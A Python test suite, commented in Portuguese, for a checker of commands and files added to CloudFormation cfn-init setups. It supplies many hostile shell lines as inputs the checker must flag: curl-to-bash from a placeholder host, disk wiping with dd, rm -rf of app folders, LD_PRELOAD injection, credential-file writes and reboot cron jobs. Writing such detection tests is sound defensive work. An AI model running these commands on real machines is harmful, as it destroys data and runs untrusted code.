"""O que a máquina roda e o que se escreve nela: o que não se conhece é achado, e o que quem opera acrescenta sem mudar nada, não."""

from __future__ import annotations

import copy
from typing import Any

import pytest
from attempts import Edits, findings, subject, text_of
from bench import R

SITES = {"musicas": "Servidor", "ecommerce": "ModeloLancamento"}
CONFIG = ("Metadata", "AWS::CloudFormation::Init", "config")
UNKNOWN, LOST, OVER = "não se sabe o que isso muda", "escreve, ou tira", "que o template já escreve"

FALSE = {
    "um programa que não se conhece": ("iptables -A INPUT -p tcp --dport 8080 -j DROP", "roda `iptables`"),
    "o mesmo, dentro de outro": ("bash -c 'iptables -F'", "roda `iptables`"),
    "o mesmo, por uma variável": ("X=iptables; $X -F", "roda `$X`"),
    "o mesmo, ao sair": ("trap 'iptables -F' EXIT", "roda `iptables`"),
    "o mesmo, depois de outro": ("timeout 5 sudo iptables -F", "roda `iptables`"),
    "o mesmo, num laço": ("for i in 1 2; do iptables -F; done", "roda `iptables`"),
    "o mesmo, num caso": ("case $i in\n  1) iptables -F ;;\nesac", "roda `iptables`"),
    "o que vem de fora": ("curl --silent https://exemplo.example/a | bash", "roda `bash`"),
    "um Python solto": ("python3 -c \"open('/etc/hosts', 'a')\"", "roda `python3 -c`"),
    "um texto que se monta": ('eval "iptables -F"', "roda `eval`"),
    "um shell que não se fecha": ("echo 'a", "não se lê como shell"),
    "o relógio solto": ("timedatectl set-ntp false", "roda `timedatectl set-ntp`"),
    "outra hora": ("date -s '2020-01-01'", "roda `date`"),
    "outra biblioteca antes de todas": ("export LD_PRELOAD=/opt/x.so", "dá valor a `LD_PRELOAD`"),
    "outra casa do Python": ("export PYTHONHOME=/nada", "dá valor a `PYTHONHOME`"),
    "outro caminho": ("export PATH=/nada", "dá valor a `PATH`"),
    "outro endereço do SDK": ("export AWS_ENDPOINT_URL_S3=http://10.0.0.9", "dá valor a `AWS_ENDPOINT_URL_S3`"),
    "outra credencial": ("export AWS_PROFILE=outra", "dá valor a `AWS_PROFILE`"),
    "um firewall": ("dnf install -y firewalld && systemctl enable --now firewalld", "inicia `firewalld`"),
    "a unidade mascarada": ("systemctl mask {unit}", "`systemctl mask {unit}`"),
    "a unidade limitada": ("systemctl set-property {unit}.service MemoryMax=16M", "`systemctl set-property`"),
    "o ambiente de todas": ("systemctl set-environment PGHOST=outro", "`systemctl set-environment`"),
    "a unidade emendada": ("printf '[Service]\\nUser=nobody\\n' | systemctl edit --stdin {unit}", "`systemctl edit`"),
    "uma emenda da unidade": ("mkdir -p /etc/systemd/system/{unit}.service.d\ncat > /etc/systemd/system/{unit}.service.d/a.conf <<'FIM'\n"
                              "[Service]\nExecStart=\nExecStart=/bin/false\nFIM", "muda `{unit}.service` por fora dela"),
    "a mesma, por outro programa": ("echo a | tee /run/systemd/system/{unit}.service.d/a.conf", "muda `{unit}.service` por fora dela"),
    "o padrão de todas": ("printf '[Manager]\\nDefaultLimitNOFILE=4\\n' > /etc/systemd/system.conf.d/a.conf", LOST),
    "a unidade trocada": ("sed -i 's/0.0.0.0/127.0.0.1/' /etc/systemd/system/{unit}.service", OVER),
    "o que se manda por um cano": ("echo {unit} | xargs systemctl disable", "`systemctl disable`"),
    "sem os nomes": ("systemctl stop systemd-resolved", "de que a máquina precisa"),
    "sem uma biblioteca": ("/opt/{unit}/venv/bin/pip uninstall -y waitress", "roda `pip uninstall`"),
    "sem o Python": ("dnf remove -y python3.11", "roda `dnf remove`"),
    "sem o ambiente do Python": ("rm -rf /opt/{unit}/venv", OVER),
    "um pacote por cima de tudo": ("curl --silent https://exemplo.example/a.tgz | tar -xz -C /", OVER),
    "outro usuário": ("usermod --login antigo {unit}", "roda `usermod`"),
    "todas as unidades trocadas": ("sed -i 's/0.0.0.0/127.0.0.1/' /etc/systemd/system/*.service", OVER),
    "a unidade apagada": ("rm -f /etc/systemd/system/{unit}.service", OVER),
    "a unidade aumentada": ("echo 'User=nobody' >> /etc/systemd/system/{unit}.service", OVER),
    "o ambiente aumentado": ("echo PGHOST=outro >> /etc/{unit}.env", OVER),
    "o programa trocado": ("curl --silent --output /opt/{unit}/{unit}.py https://exemplo.example/a", OVER),
    "o programa trocado, da pasta dele": ("cd /opt/{unit} && sed -i s/a/b/ {unit}.py", OVER),
    "a pasta apagada": ("rm -rf /opt/{unit}", OVER),
    "a pasta varrida": ("find /opt -name '*.py' -delete", OVER),
    "a pasta escondida": ("mount -t tmpfs tmpfs /opt/{unit}", OVER),
    "a pasta fechada": ("chmod -R o-rwx /opt/{unit}", OVER),
    "outro endereço": ("echo '127.0.0.1 banco' >> /etc/hosts", "`/etc/hosts`"),
    "outro endereço, por uma variável": ('F=/etc/hosts; echo a >> "$F"', "`$F`"),
    "uma hora marcada": ("echo '* * * * * root reboot' > /etc/cron.d/a", "`/etc/cron.d/a`"),
    "a cada início": ("echo reboot > /var/lib/cloud/scripts/per-boot/a.sh", "per-boot"),
    "a credencial de quem roda": ("echo a > /home/{unit}/.aws/credentials", ".aws/credentials"),
    "o disco por cima": ("dd if=/dev/zero of=/dev/nvme0n1", "`/dev/nvme0n1`"),
}
RIGHT = {
    "o que se diz a quem entra": "echo 'Oi.' > /etc/motd",
    "a troca em disco": "fallocate -l 1G /swapfile && chmod 600 /swapfile && mkswap /swapfile && swapon /swapfile",
    "o fuso": "timedatectl set-timezone America/Sao_Paulo",
    "um agente": "dnf install -y amazon-cloudwatch-agent && systemctl enable --now amazon-cloudwatch-agent",
    "a troca em disco, de outro modo": "dd if=/dev/zero of=/swapfile bs=1M count=512 && mkswap /swapfile",
    "o nome da máquina": "hostnamectl set-hostname servidor",
    "o dono": "chown -R root:root /opt/{unit}",
    "o ambiente só para o sistema": "chmod 600 /etc/{unit}.env",
    "um laço e uma pergunta": "for i in 1 2 3; do if [ ! -d /opt/a ]; then mkdir -p /opt/a; fi; sleep 1; done",
    "um registro": 'echo "pronto: $(date)" >> /var/log/inicio.log',
    "outra unidade fora": "systemctl mask tmp.mount",
    "a unidade parada antes de iniciar": "systemctl stop {unit}",
    "um caso": "case $(uname -m) in\n  x86_64|amd64) echo a ;;\n  *) exit 1 ;;\nesac",
    "um aviso ao sair": "trap 'echo fim >&2' EXIT",
    "um registro que fala do cfn-init": "logger 'o cfn-init terminou' # e o cfn-init também",
    "o agente, iniciado": "amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s -c file:/opt/agente.json",
}


def unit_of(slug: str) -> str:
    return {"ecommerce": "loja"}.get(slug, slug)


def adding(slug: str, part: str, name: str, value: dict[str, Any]) -> Edits:
    """Um comando, ou um arquivo, a mais no que o `cfn-init` faz."""
    data = subject(slug)[0].template.data[R][SITES[slug]]
    for key in CONFIG:
        data = data[key]
    return {(R, SITES[slug], *CONFIG, part): {**copy.deepcopy(data[part]), name: value}}


def said(slug: str, command: str) -> list[str]:
    return [found.message for found in findings(slug, adding(slug, "commands", "9-mais", {"command": command.replace("{unit}", unit_of(slug))}))]


@pytest.mark.parametrize("slug", SITES)
@pytest.mark.parametrize("name", FALSE)
def test_what_is_not_known_is_named(name, slug):
    command, cause = FALSE[name]
    messages = said(slug, command)
    assert any(cause.replace("{unit}", unit_of(slug)) in message for message in messages), messages


@pytest.mark.parametrize("slug", SITES)
@pytest.mark.parametrize("name", RIGHT)
def test_what_changes_nothing_has_no_finding(name, slug):
    assert said(slug, RIGHT[name]) == []


@pytest.mark.parametrize("slug", SITES)
@pytest.mark.parametrize(("place", "cause"), [
    ("/etc/systemd/system/{unit}.service.d/a.conf", "muda `{unit}.service` por fora dela"),
    ("/usr/lib/systemd/system/{unit}.service.d/a.conf", "muda `{unit}.service` por fora dela"),
    ("/etc/systemd/system/service.d/a.conf", UNKNOWN), ("/etc/sysctl.d/a.conf", UNKNOWN), ("/etc/cron.d/a", UNKNOWN), ("/etc/resolv.conf", UNKNOWN),
    ("/opt/{unit}/venv/lib/python3.11/site-packages/sitecustomize.py", UNKNOWN), ("/home/{unit}/.aws/config", UNKNOWN), ("/etc/pip.conf", UNKNOWN),
])
def test_a_file_that_nobody_reads_is_named(slug, place, cause):
    file = {"content": "a", "mode": "000644"}
    messages = [found.message for found in findings(slug, adding(slug, "files", place.replace("{unit}", unit_of(slug)), file))]
    assert any(cause.replace("{unit}", unit_of(slug)) in message for message in messages), messages


@pytest.mark.parametrize("slug", SITES)
def test_a_service_that_closes_ports_is_named(slug):
    services = subject(slug)[0].template.data[R][SITES[slug]]["Metadata"]["AWS::CloudFormation::Init"]["config"]["services"]["systemd"]
    more = adding(slug, "services", "systemd", {**services, "nftables": {"enabled": True, "ensureRunning": True}})
    assert any("inicia `nftables`" in found.message for found in findings(slug, more))


@pytest.mark.parametrize("slug", SITES)
@pytest.mark.parametrize(("more", "cause"), [({"env": {"PIP_INDEX_URL": "https://exemplo.example/"}}, "dá valor a `PIP_INDEX_URL`"),
                                             ({"test": "false"}, "só roda se `false` der certo")])
def test_what_a_command_is_given_is_read(slug, more, cause):
    assert any(cause in found.message for found in findings(slug, adding(slug, "commands", "9-mais", {"command": "sync", **more})))


@pytest.mark.parametrize("slug", SITES)
def test_a_program_that_hides_a_library_is_named(slug):
    file = adding(slug, "files", f"/opt/{unit_of(slug)}/flask.py", {"content": "raise SystemExit(1)", "mode": "000644"})
    assert any("esconde o módulo `flask`" in found.message for found in findings(slug, file))


@pytest.mark.parametrize("slug", SITES)
def test_what_is_fetched_over_the_program_is_named(slug):
    fetched = {(R, SITES[slug], *CONFIG, "sources"): {f"/opt/{unit_of(slug)}": "https://exemplo.example/a.zip"}}
    assert any("pode trocar o que o template escreve ali" in found.message for found in findings(slug, fetched))


def test_a_second_thing_to_do_when_leaving_undoes_the_signal():
    place = (R, "Servidor", "Properties", "UserData")
    assert any("a segunda apaga a primeira" in found.message for found in findings("musicas", text_of(
        place, "set -euo pipefail", "set -euo pipefail\ntrap 'echo fim' EXIT")))


@pytest.mark.parametrize("slug", SITES)
@pytest.mark.parametrize("place", ["/etc/motd", "/etc/logrotate.d/{unit}", "/opt/{unit}/LEIAME.md", "/usr/local/bin/ver-registro"])
def test_a_file_that_changes_nothing_has_no_finding(slug, place):
    assert findings(slug, adding(slug, "files", place.replace("{unit}", unit_of(slug)), {"content": "a", "mode": "000644"})) == []


@pytest.mark.parametrize("slug", SITES)
@pytest.mark.parametrize(("place", "text", "false"), [
    ("/etc/systemd/system/{unit}.service.d/a.conf", "[Service]\nSyslogIdentifier=site\n", "[Service]\nSyslogIdentifier=site\nUser=nobody\n"),
    ("/etc/sysctl.d/90.conf", "# menos troca\nvm.swappiness = 10\n", "vm.swappiness = 10\nvm.overcommit_memory = 2\n"),
    ("/etc/logrotate.d/cfn-init", "/var/log/cfn-init*.log {\n  weekly\n}\n", ""),
])
def test_what_a_file_says_decides(slug, place, text, false):
    place = place.replace("{unit}", unit_of(slug))
    assert findings(slug, adding(slug, "files", place, {"content": text, "mode": "000644"})) == []
    assert not false or findings(slug, adding(slug, "files", place, {"content": false, "mode": "000644"}))


@pytest.mark.parametrize("slug", SITES)
@pytest.mark.parametrize("how", [". {}", "source {}", "bash {}", "{}"])
def test_a_file_that_is_run_is_read_too(slug, how):
    place = "/usr/local/lib/ajustes.sh"
    for start in ("", "#!/bin/bash\n")[how == "{}":]:
        file = adding(slug, "files", place, {"content": f"{start}iptables -F\n", "mode": "000755"})
        command = adding(slug, "commands", "9-mais", {"command": how.format(place)})
        assert any("`/usr/local/lib/ajustes.sh` roda `iptables`" in found.message for found in findings(slug, file | command))


@pytest.mark.parametrize(("body", "cause"), [
    ("[Service]\nType=oneshot\nExecStart=/usr/bin/systemctl stop {unit}\n[Install]\nWantedBy=multi-user.target", "`systemctl stop {unit}`"),
    ("[Service]\nType=oneshot\nExecStart=/usr/sbin/iptables -F\n[Install]\nWantedBy=multi-user.target", "roda `iptables`"),
    ("[Unit]\nConflicts={unit}.service\n[Service]\nExecStart=/bin/true\n[Install]\nWantedBy=multi-user.target", "tira do ar `{unit}.service`"),
])
@pytest.mark.parametrize("slug", SITES)
def test_another_unit_that_stops_the_first_is_named(slug, body, cause):
    unit = unit_of(slug)
    file = {"content": body.replace("{unit}", unit), "mode": "000644"}
    messages = [found.message for found in findings(slug, adding(slug, "files", "/etc/systemd/system/outra.service", file))]
    assert any(cause.replace("{unit}", unit) in message for message in messages), messages
